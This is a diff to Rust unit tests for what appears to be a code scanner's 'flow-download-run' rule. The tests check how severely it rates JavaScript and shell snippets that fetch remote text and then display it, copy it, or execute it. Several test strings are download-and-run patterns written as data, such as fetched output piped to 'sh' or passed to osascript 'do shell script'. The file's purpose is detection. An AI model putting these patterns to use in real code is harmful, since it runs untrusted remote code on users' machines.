@@ -627,7 +627,7 @@ fn pages_are_opened_whatever_their_query_says_and_mailboxes_of_others_are_no_col
     };
     let weighs = |opens: &str| weight(Language::JavaScript, &code(opens), "flow-download-run");
     assert_eq!(weighs("open \"https://h.invalid/new?title=Bug Report&body=# A ${t}\""), Some(Severity::Medium));
-    let encoded = "${p} \"https://h.invalid/new?title=${encodeURIComponent('Bug `x` $y\\n' + t)}\"";
+    let encoded = "xdg-open \"https://h.invalid/new?title=${encodeURIComponent('Bug `x` $y\\n' + t)}\"";
     assert_eq!(weighs(encoded), Some(Severity::Medium));
     assert!(weighs("open \"https://h.invalid/\" && \"${t}\"") >= Some(Severity::High));
     assert!(weighs("sh -c \"${t}\"") >= Some(Severity::High));
@@ -651,6 +651,25 @@ fn who_goes_on_behind_the_terminal_was_told_to() {
     let spawn =
         "require('child_process').spawn(process.execPath, [__dirname + '/d.js'], {detached: true, stdio: 'ignore'})";
     assert!(triggered(spawn) && !triggered(&format!("if (process.argv[2] === 'start') {spawn}")));
+}
+
+#[test]
+fn what_is_shown_or_copied_is_not_started() {
+    use crate::model::Severity;
+    let weighs = |command: &str| {
+        weight(Language::Shell, &format!("N=$(curl -s https://h.invalid/n)\n{command}"), "flow-download-run")
+    };
+    assert!(weighs("osascript -e \"display notification \\\"$N errors\\\"\"") <= Some(Severity::Medium));
+    assert!(weighs("osascript -e \"do shell script \\\"$N\\\"\"") >= Some(Severity::High));
+    let copies = |command: &str| {
+        let code = format!(
+            "const {{execSync}} = require('child_process'); fetch('https://h.invalid/n').then(r => r.text()).then(t => execSync(`{command}`))"
+        );
+        weight(Language::JavaScript, &code, "flow-download-run")
+    };
+    assert_eq!(copies("printf '%s' \"${t}\" | pbcopy"), None);
+    assert_eq!(copies("echo|set /p=\"${t}\" | clip"), None);
+    assert!(copies("printf '%s' \"${t}\" | sh") >= Some(Severity::High));
 }
 
 #[test]
